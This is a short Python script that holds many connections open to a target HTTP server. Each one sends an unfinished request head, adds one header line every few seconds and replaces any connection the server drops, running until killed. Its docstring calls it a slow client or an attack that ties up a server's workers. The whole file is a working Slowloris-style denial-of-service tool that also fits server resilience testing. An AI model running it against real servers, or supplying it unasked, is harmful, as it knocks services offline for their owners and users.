#!/usr/bin/python3
"""Holds N connections to HOST:PORT that each send a request's head one
header line every few seconds and never finish it (a slow client, or an
attack that ties a server's workers up). Runs until killed."""
import socket
import sys
import time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
every = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
clients = []
for _ in range(count):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
        clients.append(s)
    except OSError:
        pass
print(f"{len(clients)} slow clients connected", flush=True)
line = 0
while True:
    time.sleep(every)
    line += 1
    for s in list(clients):
        try:
            s.sendall(f"X-Slow-{line}: {'x' * 10}\r\n".encode())
        except OSError:
            clients.remove(s)  # the server gave up on it: a new one takes its place
            try:
                n = socket.create_connection((host, port), timeout=5)
                n.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
                clients.append(n)
            except OSError:
                pass
